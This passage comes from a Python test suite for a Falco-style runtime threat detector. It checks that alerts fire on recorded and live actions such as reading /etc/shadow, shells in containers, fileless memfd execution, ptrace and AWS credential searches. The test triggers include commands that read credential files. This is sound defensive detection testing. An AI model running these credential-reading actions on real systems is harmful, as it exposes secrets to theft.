    name) and its image, looked up from podman's API."""
    from test_live_detector import Detector
    work = tempfile.mkdtemp(prefix="harrier-rules-detector-names-")
    sc = ContainerShell(ctx, work)
    det = None
    try:
        sc.prepare()
        with containers.ApiService(), open(RULES) as f:
            det = Detector(ctx, f.read(), "-o", ATTRIBUTION)
            started = []
            det.wait_alert(lambda a: a["rule"] == ContainerShell.rule and owned_by(a, started), "a shell in a container",
                           poke=lambda: started.extend(sc.positive()))
            # the lookup is asynchronous: an alert raised after it answers names the container
            det.wait_alert(lambda a: a["rule"] == ContainerShell.rule and owned_by(a, started) and
                           a["output_fields"].get("container.image") == IMAGE, "an alert with the image",
                           poke=lambda: started.extend(sc.positive()))
    finally:
        if det is not None:
            det.stop()
        sc.cleanup()
        shutil.rmtree(work, ignore_errors=True)
    check_container_shell_alert([a for a in det.alerts() if a["output_fields"].get("container.image") == IMAGE])


def test_live_user_name_in_alert(ctx):
    """Alerts of a live recording name the user."""
    rec = record(ctx, SensitiveRead)
    alerts = [a for a in ra.replay(ctx, rec.positive, RULES) if a["rule"] == SensitiveRead.rule]
    assert alerts and alerts[0]["output_fields"].get("user.name") == "root", alerts[:1]


def test_live_vfork_spawned_program_named(ctx):
    """A program started with vfork (as Python's subprocess does) is named in
    its alert by its own name, and so is every event it makes after its exec,
    not its parent's name."""
    work = tempfile.mkdtemp(prefix="harrier-rules-vfork-")
    full = os.path.join(work, "full.scap")
    cut = os.path.join(work, "cut.scap")
    cat = copy_program("/bin/cat", work, "cat")
    rec = ra.Recording(ctx, full)
    try:
        rec.marker()
        direct = ra.run_action([cat, "/etc/shadow"])                     # Python's subprocess: vfork
        dash = ra.run_action(["/bin/dash", "-c", "%s /etc/shadow; true" % cat])  # dash: vfork too
        rec.stop()
    finally:
        rec.kill()
    ra.trim(ctx, full, cut, "(%s or %s)" % (direct.tree_filter(), dash.tree_filter()))
    alerts = [x for x in ra.replay(ctx, cut, RULES) if x["rule"] == SensitiveRead.rule]
    p = ctx.inspect("-r", cut, "-p", "%thread.tid %evt.type %proc.name",
                    "proc.apid=%d or thread.tid=%d" % (dash.pid, direct.pid))
    shutil.rmtree(work)
    lines = p.stdout.decode().splitlines()
    cats = {line.split()[0] for line in lines if line.endswith(" execve cat")}
    assert len(cats) == 2, "two execs of cat expected:\n%s" % "\n".join(lines[-20:])
    renamed = []
    for tid in cats:
        mine = [line for line in lines if line.split()[0] == tid]
        after = mine[[i for i, line in enumerate(mine) if line.endswith(" execve cat")][0]:]
        renamed += [line for line in after if not line.endswith(" cat")]
    assert not renamed, "events of cat after its exec named otherwise: %s" % renamed[:5]
    assert len(alerts) == 2 and all(x["output_fields"]["proc.name"] == "cat" for x in alerts), \
        [x["output"] for x in alerts]


# ---- the detector live: build/harrier without -e, all default rules ---------------------------
#
# The positive action is repeated until its alerts arrive (events are lost
# while the probe attaches); then the near miss runs, then the positive
# again until it alerts, and that alert marks the end: everything the near miss did has been
# judged by then. Alerts are traced to actions by pid and process group
# (each action runs in a session of its own), appended to every output.

ANCESTORS = 6
ATTRIBUTION = "append_output[0].extra_output=pid=%proc.pid pgid=%proc.vpgid " + " ".join(
    "a%d=%%proc.apid[%d]" % (i, i) for i in range(1, ANCESTORS + 1))


def owned_by(alert, actions):
    """Whether the alert comes from one of the actions' process trees or
    their containers."""
    f = alert.get("output_fields", {})
    roots = {a.pid for a in actions}
    ids = [f.get("proc.pid"), f.get("proc.vpgid")] + [f.get("proc.apid[%d]" % i) for i in range(1, ANCESTORS + 1)]
    keys = {c for a in actions for c in getattr(a, "containers", ())}
    return any(i in roots for i in ids) or f.get("container.name") in keys or f.get("container.id") in keys


def detector_live(cls):
    def test(ctx):
        from test_live_detector import Detector
        work = tempfile.mkdtemp(prefix="harrier-rules-detector-%s-" % cls.name)
        sc = cls(ctx, work)
        api = containers.ApiService() if cls.container else None
        det = None
        try:
            sc.prepare()
            if api:
                api.__enter__()
            with open(RULES) as f:
                det = Detector(ctx, f.read(), "-o", ATTRIBUTION)
            positives = []
            for rule, fields in sc.expect():
                det.wait_alert(lambda a: a["rule"] == rule and owned_by(a, positives) and
                               all(field_matches(a, k, v) for k, v in fields.items()),
                               "%s %s" % (rule, fields), poke=lambda: positives.extend(sc.positive()))
            near = sc.near_miss()
            last = sc.positive()
            rule, fields = sc.expect()[0]
            # repeated like the first positives: a container's metadata may
            # come after the lookup's time limit on a loaded machine, and its
            # events then go through without it (no privileged flag)
            det.wait_alert(lambda a: a["rule"] == rule and owned_by(a, last), "the positive after the near miss",
                           poke=lambda: last.extend(sc.positive()))
        finally:
            if det is not None:
                det.stop()
            if api:
                api.__exit__(None, None, None)
            sc.cleanup()
            shutil.rmtree(work, ignore_errors=True)
        alerts = det.alerts()
        wrong = [a["output"] for a in alerts if owned_by(a, near) and a["rule"] not in near_miss_allowed(sc)]
        assert not wrong, "the near miss raised: %s" % wrong[:5]
        extra = sorted({a["rule"] for a in alerts if owned_by(a, positives + last)} - allowed_rules(sc))
        assert not extra, "the positive action also raised %s" % extra
    test.__doc__ = "%s, live: harrier with the default rules raises %r, not on the near miss." % (cls.name, cls.rule)
    return test


for cls in SCENARIOS:
    if cls is not ContainerTty:
        globals()["test_detector_" + cls.name] = detector_live(cls)


# ---- the upstream stable rules ------------------------------------------------------------

def test_upstream_rules_load_alongside(ctx):
    """Falco's stable rules load next to Harrier's without errors."""
    p = ctx.run([ctx.bin("harrier"), "-V", RULES, "-V", UPSTREAM, "-o", "json_output=true",
                 "-o", "log_stderr=false"], check=False)
    import json
    results = json.loads(p.stdout)["falco_load_results"]
    errors = [e for r in results for e in r["errors"]]
    assert p.returncode == 0 and not errors, errors[:3]


def defined_names(path):
    names = set()
    with open(path) as f:
        for line in f:
            for kind in ("- rule: ", "- macro: ", "- list: "):
                if line.startswith(kind):
                    names.add(line[len(kind):].strip())
    return names


def test_rules_names_distinct_from_upstream(ctx):
    """No rule, macro or list of Harrier's file has a name Falco's stable
    rules also define (any kind: lists and macros share one namespace), so
    loading both changes neither."""
    shared = sorted(defined_names(RULES) & defined_names(UPSTREAM))
    assert not shared, "names defined by both files: %s" % shared


# With rule_matching: first (the default) an event raises only the first
# rule it matches, and Harrier's file comes first: the upstream rules are
# judged with rule_matching=all, as a user running both sets would.
BOTH = ("-o", "rule_matching=all")


def upstream_fires(cls, upstream_rule, fields, extra=()):
    def test(ctx):
        rec = record(ctx, cls)
        alerts = ra.replay(ctx, rec.positive, RULES, UPSTREAM, extra=BOTH + tuple(extra))
        check_expected(alerts, [(upstream_rule, fields)], "upstream on " + cls.name)
        near = [a for a in ra.replay(ctx, rec.near_miss, RULES, UPSTREAM, extra=BOTH) if a["rule"] == upstream_rule]
        assert not near, "upstream %r on the near miss: %s" % (upstream_rule, near[:2])
    test.__doc__ = "Falco's %r fires on the %s action." % (upstream_rule, cls.name)
    return test


test_upstream_read_sensitive_file_untrusted = upstream_fires(
    SensitiveRead, "Read sensitive file untrusted", {"fd.name": "/etc/shadow", "proc.name": "cat"})
test_upstream_create_symlink_over_sensitive_files = upstream_fires(
    Symlink, "Create Symlink Over Sensitive Files", {"proc.name": "ln"})
test_upstream_execution_from_dev_shm = upstream_fires(DevShmExec, "Execution from /dev/shm", {})
test_upstream_fileless_execution_via_memfd_create = upstream_fires(
    Memfd, "Fileless execution via memfd_create", {})
test_upstream_ptrace_attached_to_process = upstream_fires(
    Ptrace, "PTRACE attached to process", {"proc.name": "python3"})
# Falco 0.44's upstream outputs name no container field: its container
# plugin adds them through append_output's suggested_output, which Harrier
# does not implement; the same fields are asked for here with extra_output.
test_upstream_terminal_shell_in_container = upstream_fires(
    ContainerTty, "Terminal shell in container", {"proc.name": "bash", "container.image": IMAGE},
    extra=("-o", "append_output[0].extra_output=container_image=%container.image"))


def test_replay_background_with_upstream_rules(ctx):
    """The stored recordings raise no upstream rule beyond the ones their
    scenarios are about."""
    upstream_for = {"sensitive_file_read": {"Read sensitive file untrusted"},
                    "symlink_to_sensitive_file": {"Create Symlink Over Sensitive Files"},
                    "exec_from_dev_shm": {"Execution from /dev/shm"},
                    "fileless_memfd_exec": {"Fileless execution via memfd_create"},
                    # its near miss is PTRACE_TRACEME, which upstream rightly flags
                    "ptrace_attach": {"PTRACE attached to process", "PTRACE anti-debug attempt"},
                    "aws_credential_search": {"Find AWS Credentials"},
                    "hardlink_to_sensitive_file": {"Create Hardlink Over Sensitive Files"},
                    "log_file_cleared": {"Clear Log Activities"},
                    "packet_socket_in_container": {"Packet socket created in container"}}
    problems = []
    for name in sorted(STORED_EXPECTATIONS):
        sc = BY_NAME[name](ctx, ra.CAPTURES)
        alerts = ra.replay(ctx, stored_capture(name), RULES, UPSTREAM, extra=BOTH)
        extra = sorted({a["rule"] for a in alerts} - expected_in_whole(sc) - upstream_for.get(name, set()))
        if extra:
            problems.append("%s: %s" % (name, extra))
    assert not problems, "unexpected rules: %s" % problems


# ---- recording the stored captures (python3 tests/record_actions.py) ------------------------

# ContainerTty only serves the upstream rule's test (its recording holds a
# terminal session: nothing the default rules need beyond ContainerShell's).
NOT_STORED = {ContainerTty}


def record_all(ctx, directory, names=()):
    """Records every scenario worth storing (or only those named) and stores
    its whole-test cut, gzip-compressed, with the expectations its values
    give."""
    import json
    values = _stored_values()
    for cls in SCENARIOS:
        if cls in NOT_STORED or (names and cls.name not in names):
            continue
        rec = record(ctx, cls)
        out = os.path.join(directory, cls.name + ".scap")
        with open(rec.whole, "rb") as f, gzip.open(out, "wb", compresslevel=9) as g:
            g.write(f.read())
        values[cls.name] = [(rule, {f: v.to_json() if isinstance(v, (Contains, OneOf)) else v
                                    for f, v in fields.items()})
                            for rule, fields in rec.scenario.expect()]
        print("%s: %d bytes" % (out, os.path.getsize(out)))
    if not names or BACKGROUND in names:
        out = os.path.join(directory, BACKGROUND + ".scap")
        with open(record_background(ctx), "rb") as f, gzip.open(out, "wb", compresslevel=9) as g:
            g.write(f.read())
        print("%s: %d bytes" % (out, os.path.getsize(out)))
    with open(STORED_VALUES_FILE, "w") as f:
        json.dump(values, f, indent=1, sort_keys=True)
        f.write("\n")
